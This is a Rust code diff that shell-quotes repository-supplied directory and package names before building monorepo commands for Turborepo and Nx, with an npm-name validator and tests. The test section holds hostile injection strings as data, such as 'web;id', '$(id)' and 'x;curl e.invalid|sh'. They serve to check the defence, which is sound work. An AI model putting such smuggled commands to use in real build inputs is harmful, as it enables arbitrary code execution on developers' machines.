@@ -122,7 +122,9 @@ fn nearest_manifests<'a>(
     if pending { Err(Pending) } else { Ok(out) }
 }
 
-/// Turborepo or Nx build for a workspace package, run from the workspace root.
+/// Turborepo or Nx build for a workspace package, run from the workspace root. The directory
+/// and the project or package name come from the repository, so each reaches the command as
+/// one shell-quoted word; a package name that is not a valid npm package name is not used.
 fn monorepo_build(ctx: &NodeContext<'_>) -> Option<(String, String)> {
     if ctx.pkg.is_none() && ctx.nx_project.is_none() {
         return None;
@@ -132,21 +134,47 @@ fn monorepo_build(ctx: &NodeContext<'_>) -> Option<(String, String)> {
     let root = workspace.root;
     match workspace.tool? {
         MonorepoTool::Turbo => Some((
-            in_dir(dir, root, &format!("npx turbo run build --filter={{{dir}}}...")),
+            in_dir(dir, root, &format!("npx turbo run build --filter={{{}}}...", word(dir)?)),
             format!("Turborepo at {root}: build {dir} and its dependencies with turbo"),
         )),
         MonorepoTool::Nx => {
             let name = ctx
                 .nx_project
-                .map(str::to_owned)
-                .or_else(|| ctx.pkg.and_then(|p| p.name.clone()))
-                .unwrap_or_else(|| dir.rsplit('/').next().unwrap_or(dir).to_owned());
+                .or_else(|| ctx.pkg.and_then(|p| p.name.as_deref()).filter(|n| is_npm_name(n)))
+                .unwrap_or_else(|| dir.rsplit('/').next().unwrap_or(dir));
             Some((
-                in_dir(dir, root, &format!("npx nx build {name}")),
+                in_dir(dir, root, &format!("npx nx build {}", word(name)?)),
                 format!("Nx workspace at {root}: build project {name} with nx"),
             ))
         }
     }
+}
+
+/// `value` as one shell word (quoted when needed); `None` when no quoting can carry it.
+fn word(value: &str) -> Option<String> {
+    shlex::try_quote(value).ok().map(|w| w.into_owned())
+}
+
+/// Whether `name` is a valid npm package name: at most 214 characters, lowercase, optionally
+/// `@scope/`, of URL-safe characters, not starting with `.` or `_`.
+fn is_npm_name(name: &str) -> bool {
+    let part = |p: &str| {
+        !p.is_empty()
+            && !p.starts_with(['.', '_'])
+            && p.bytes().all(|b| {
+                b.is_ascii_lowercase()
+                    || b.is_ascii_digit()
+                    || matches!(b, b'-' | b'.' | b'_' | b'~')
+            })
+    };
+    let unscoped = match name.strip_prefix('@') {
+        Some(scoped) => match scoped.split_once('/') {
+            Some((scope, rest)) if part(scope) => rest,
+            _ => return false,
+        },
+        None => name,
+    };
+    name.len() <= 214 && part(unscoped)
 }
 
 /// Runs each `&&`-separated step of a default command through the package manager, unless it
@@ -192,6 +220,22 @@ mod tests {
     fn in_dir_climbs_to_the_workspace_root() {
         assert_eq!(in_dir("packages/app-1", ".", "npm ci"), "cd ../.. && npm ci");
         assert_eq!(in_dir(".", ".", "npm ci"), "npm ci");
+    }
+
+    #[test]
+    fn repository_names_reach_commands_as_single_words() {
+        assert!(is_npm_name("@acme/web-app"));
+        assert!(is_npm_name("web.app_2"));
+        for bad in ["web;id", "Web", "@acme", "_x", "a b", "web$(id)", "x\nid", ""] {
+            assert!(!is_npm_name(bad), "{bad:?}");
+        }
+        assert_eq!(word("web").as_deref(), Some("web"));
+        for hostile in ["--filter={apps/$(id)}...", "a'b", "x;curl e.invalid|sh", "l1\nl2", "`id`"]
+        {
+            let quoted = word(hostile).unwrap();
+            assert_eq!(shlex::split(&quoted), Some(vec![hostile.to_owned()]), "{quoted}");
+        }
+        assert_eq!(word("nul\0"), None);
     }
 
     #[test]
